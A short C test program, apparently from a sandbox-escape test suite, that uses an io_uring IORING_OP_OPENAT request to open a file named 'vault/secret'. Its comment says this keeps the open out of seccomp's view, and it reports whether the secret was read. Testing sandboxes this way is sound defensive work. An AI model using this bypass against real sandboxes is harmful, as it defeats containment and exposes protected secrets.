/* IORING_OP_OPENAT: the open happens in the kernel's io worker, never as a syscall seccomp sees. */
#include "attack.h"
#include "uring.h"
int main(void) {
  struct ring r;
  int e = ring_init(&r);
  if (e < 0) result(0, "io_uring_setup: %s", errname(-e));
  struct io_uring_sqe s;
  memset(&s, 0, sizeof s);
  s.opcode = IORING_OP_OPENAT;
  s.fd = AT_FDCWD;
  s.addr = (uintptr_t) "vault/secret";
  s.open_flags = O_RDONLY;
  int fd = ring_run(&r, &s);
  if (fd < 0) result(0, "IORING_OP_OPENAT: %s", errname(-fd));
  result(is_secret_fd(fd), "IORING_OP_OPENAT opened the secret");
}
